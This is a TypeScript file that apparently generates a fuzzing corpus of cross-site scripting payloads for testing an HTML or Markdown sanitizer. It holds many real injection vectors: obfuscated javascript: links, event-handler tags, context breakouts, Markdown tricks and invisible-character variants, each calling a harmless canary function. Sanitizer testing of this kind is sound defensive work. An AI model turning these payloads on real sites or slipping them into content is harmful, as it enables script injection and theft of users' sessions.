/**
 * Texts that run a script where a page takes them for more than text. Each is made for a call, `canary(17)`, which tells which of
 * them ran. They are made from families, so that a spelling that fails in one form of link is tried in all of them.
 */
type Maker = (call: string) => string;

const base64 = (text: string) => Buffer.from(text).toString("base64");

/** Addresses that run something, in the spellings that browsers and readers of Markdown have once taken. */
const ADDRESSES: readonly Maker[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `java\nscript:${call}`,
  (call) => `&#106;avascript:${call}`,
  (call) => `&#x6A&#x61vascript:${call}`,
  (call) => `&#0000106;avascript:${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => `java&Tab;script:${call}`,
  (call) => `java&NewLine;script:${call}`,
  (call) => `javascript&#58;${call}`,
  (call) => `%6Aavascript:${call}`,
  (call) => `javascript%3A${call}`,
  (call) => `\\javascript:${call}`,
  (call) => `javascript\\:${call}`,
  (call) => `javascript://example.org/%0A${call}`,
  (call) => `javascript:void(0);${call}//https://example.org`,
  (call) => `ｊavascript:${call}`,
  (call) => `javaſcript:${call}`,
  (call) => `vbscript:${call}`,
  (call) => `feed:javascript:${call}`,
  (call) => `view-source:javascript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `data:text/html;base64,${base64(`<script>parent.${call};${call}</script>`)}`,
  (call) => `DATA:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
  (call) => `https://example.org/"onmouseover="${call}`,
  (call) => `https://example.org/'onclick='${call}`,
  (call) => `https://example.org/><script>${call}</script>`,
];

/** How an address comes into a text. */
const LINKS: readonly ((address: string) => string)[] = [
  (address) => `[a](${address})`,
  (address) => `[a](<${address}>)`,
  (address) => `<${address}>`,
  (address) => `![a](${address})`,
  (address) => `[a][b]\n\n[b]: ${address}`,
  (address) => `<a href="${address}" autofocus>a</a>`,
];

/** Events that come by themselves, each on an element that has them. */
const EVENTS: readonly Maker[] = [
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img src=x onerror="${call}"/>`,
  (call) => `<IMG SRC=x ONERROR='${call}'>`,
  (call) => `<img/src=x/onerror=${call}>`,
  (call) => `<img src=x\nonerror\n=\n${call}>`,
  (call) => `<img src=x onerror&#61;${call}>`,
  (call) => `<img srcset=x onerror=${call}>`,
  (call) => `<image src=x onerror=${call}>`,
  (call) => `<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script href="data:,${call}"/></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><set onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text y=9>a</text></a></svg>`,
  (call) => `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  (call) => `<svg><style><img src=x onerror=${call}></style></svg>`,
  (call) => `<svg><use href="data:image/svg+xml,<svg id='a' onload='${call}'/>#a"/></svg>`,
  (call) => `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  (call) => `<math href="javascript:${call}">a</math>`,
  (call) => `<math><mi xlink:href="javascript:${call}">a</mi></math>`,
  (call) => `<math><style><img src=x onerror=${call}></style></math>`,
  (call) => `<body onload=${call}>`,
  (call) => `<body onpageshow=${call}>`,
  (call) => `<frameset onload=${call}><frame></frameset>`,
  (call) => `<video src=x onerror=${call}></video>`,
  (call) => `<video><source onerror=${call} src=x></video>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<details open ontoggle=${call}>a</details>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<select autofocus onfocus=${call}></select>`,
  (call) => `<textarea autofocus onfocus=${call}></textarea>`,
  (call) => `<button autofocus onfocus=${call}>a</button>`,
  (call) => `<p tabindex=1 autofocus onfocus=${call}>a</p>`,
  (call) => `<p contenteditable autofocus onfocusin=${call}>a</p>`,
  (call) => `<marquee onstart=${call}>a</marquee>`,
  (call) => `<style>@keyframes a{}</style><p style="animation:a 1s" onanimationstart=${call}>a</p>`,
  (call) => `<object data=x onerror=${call}></object>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe onload=${call}></iframe>`,
  (call) => `<link rel=stylesheet href="data:text/css," onload=${call}>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<script src=x onerror=${call}></script>`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<form action="javascript:${call}"><button autofocus>a</button></form>`,
  (call) => `<form id=f></form><button form=f formaction="javascript:${call}">a</button>`,
  (call) => `<p onmouseover=${call} onclick=${call} onpointerenter=${call}>a</p>`,
  (call) => `<x onclick=${call} style="position:fixed;inset:0">a</x>`,
  (call) => `<dialog open onclose=${call}><form method=dialog><button autofocus>a</button></form></dialog>`,
];

/** Ways out of whatever a text stands in: an element, an attribute, a comment, a script, a template, a stylesheet, JSON. */
const BREAKOUTS: readonly Maker[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<SCRIPT>${call}</SCRIPT>`,
  (call) => `<script\n>${call}</script\n>`,
  (call) => `<script/x>${call}</script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<<script>${call}//<</script>`,
  (call) => `<ſcript>${call}</ſcript>`,
  (call) => `＜script＞${call}＜/script＞`,
  (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `&#60;img src=x onerror=${call}&#62;`,
  (call) => `&amp;lt;script&amp;gt;${call}`,
  (call) => `"><script>${call}</script>`,
  (call) => `'><img src=x onerror=${call}>`,
  (call) => `" autofocus onfocus=${call} x="`,
  (call) => `' autofocus onfocus=${call} x='`,
  (call) => `\` autofocus onfocus=${call} x=\``,
  (call) => `--><img src=x onerror=${call}>`,
  (call) => `<!--><img src=x onerror=${call}>-->`,
  (call) => `<!-- --!><img src=x onerror=${call}>`,
  (call) => `]]><img src=x onerror=${call}>`,
  (call) => `<![CDATA[<img src=x onerror=${call}>]]>`,
  (call) => `<?xml version="1.0"?><img src=x onerror=${call}>`,
  (call) => `</title><img src=x onerror=${call}>`,
  (call) => `</textarea><img src=x onerror=${call}>`,
  (call) => `</style><img src=x onerror=${call}>`,
  (call) => `</noscript><img src=x onerror=${call}>`,
  (call) => `</template></select></option><img src=x onerror=${call}>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  (call) => `<table><caption><img src=x onerror=${call}>`,
  (call) => `<template><img src=x onerror=${call}></template>`,
  (call) => `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `</script><img src=x onerror=${call}>`,
  (call) => `<!--<script>${call}`,
  (call) => `";${call};"`,
  (call) => `';${call};'`,
  (call) => `\\";${call};//`,
  (call) => `\\\\";${call};//`,
  (call) => `"]);${call};self.__next_f.push([1,"`,
  (call) => `\\u003cimg src=x onerror=${call}\\u003e`,
  (call) => `\\x3cimg src=x onerror=${call}\\x3e`,
  (call) => `$undefined ${call}`,
  (call) => `$L1 $@2 $F3 ${call}`,
  (call) => `1:I["x",[],"default"]\n0:["$","script",null,{"children":"${call}"}]`,
  (call) => `["$","img",null,{"src":"x","onError":"${call}"}]`,
  (call) => `{"__html":"<img src=x onerror=${call}>"}`,
  (call) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `{{_c.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `#{${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `{% ${call} %}`,
  (call) => `*/${call}/*`,
  (call) => `//\n${call}`,
  (call) => `<style>@import "javascript:${call}";</style>`,
  (call) => `<p style="background:url(javascript:${call})">a</p>`,
  (call) => `<p style="width:expression(${call})">a</p>`,
  (call) => `<p style="-moz-binding:url(data:text/xml,${call})">a</p>`,
  (call) => `<style>p{background:url("</style><img src=x onerror=${call}>")}</style>`,
  (call) => `}</style><script>${call}</script><style>{`,
];

/** What Markdown could make of a text. */
const MARKDOWN: readonly Maker[] = [
  (call) => `\`\`\`"><img src=x onerror=${call}>\na\n\`\`\``,
  (call) => `~~~ " onclick="${call}\na\n~~~`,
  (call) => `\`<img src=x onerror=${call}>\``,
  (call) => `    <img src=x onerror=${call}>`,
  (call) => `# <img src=x onerror=${call}>`,
  (call) => `<img src=x onerror=${call}>\n===`,
  (call) => `> <script>${call}</script>`,
  (call) => `- <script>${call}</script>\n  - <img src=x onerror=${call}>`,
  (call) => `| a |\n|---|\n| <img src=x onerror=${call}> |`,
  (call) => `**<img src=x onerror=${call}>**`,
  (call) => `[<img src=x onerror=${call}>](https://example.org)`,
  (call) => `[a](https://example.org "\\" onmouseover=${call} ")`,
  (call) => `[a](https://example.org '"><img src=x onerror=${call}>')`,
  (call) => `[a](https://example.org (" onfocus=${call} autofocus x="))`,
  (call) => `![" onerror="${call}](https://example.org/x.png)`,
  (call) => `![a](x "\\" onerror=${call} ")`,
  (call) => `[a]: https://example.org "\\"><img src=x onerror=${call}>"\n\n[a]`,
  (call) => `<https://example.org/" onmouseover="${call}>`,
  (call) => `<a@example.org" onmouseover="${call}>`,
  (call) => `[a](https://example.org/\`${call}\`)`,
  (call) => `[[a](javascript:${call})](https://example.org)`,
  (call) => `[a](javascript:${call} "https://example.org")`,
  (call) => `[a\\](https://example.org)](javascript:${call})`,
  (call) => `[^1]: <img src=x onerror=${call}>\n\na[^1]`,
  (call) => `<!-- a -->\n<img src=x onerror=${call}>`,
  (call) => `a  \n<img src=x onerror=${call}>\\\n<svg onload=${call}>`,
  (call) => `*[a]: <img src=x onerror=${call}>`,
  (call) => `$$\\href{javascript:${call}}{a}$$`,
  (call) => `:::${call}\n<img src=x onerror=${call}>\n:::`,
];

/** What nobody sees, and what turns the direction of writing: such texts are refused, or they would hide what they are. */
const UNSEEN: readonly Maker[] = [
  (call) => `<scr\0ipt>${call}</script>`,
  (call) => `<img\v src=x onerror=${call}>`,
  (call) => `<img\f src=x onerror=${call}>`,
  (call) => `[a](java\u200bscript:${call})`,
  (call) => `[a](\u0001javascript:${call})`,
  (call) => `[a](\u202etpircsavaj:${call})`,
  (call) => `\u2066<img src=x onerror=${call}>\u2069`,
  (call) => `<scr\u00adipt>${call}</script>`,
  (call) => `\ufeff<script>${call}</script>`,
  (call) => `<\ud800script>${call}</script>`,
  (call) => `<script\u{e0020}>${call}</script>`,
];

const linked = ADDRESSES.flatMap((address) =>
  LINKS.map(
    (link): Maker =>
      (call) =>
        link(address(call)),
  ),
);
const MAKERS: readonly Maker[] = [...BREAKOUTS, ...EVENTS, ...MARKDOWN, ...linked, ...UNSEEN];

export interface HostileText {
  readonly number: number;
  readonly text: string;
}

/** The whole table, and texts made of several of them without anything between, by these places in it. */
export function hostileTexts(combinations: readonly (readonly number[])[] = []): HostileText[] {
  const makers = combinations.map(
    (places): Maker =>
      (call) =>
        places.map((place) => madeAt(place)(call)).join(""),
  );
  return [...MAKERS, ...makers].map((make, number) => ({ number, text: make(`canary(${number})`) }));
}

function madeAt(place: number): Maker {
  const make = MAKERS[place % MAKERS.length];
  if (!make) throw new Error("There is no such text.");
  return make;
}
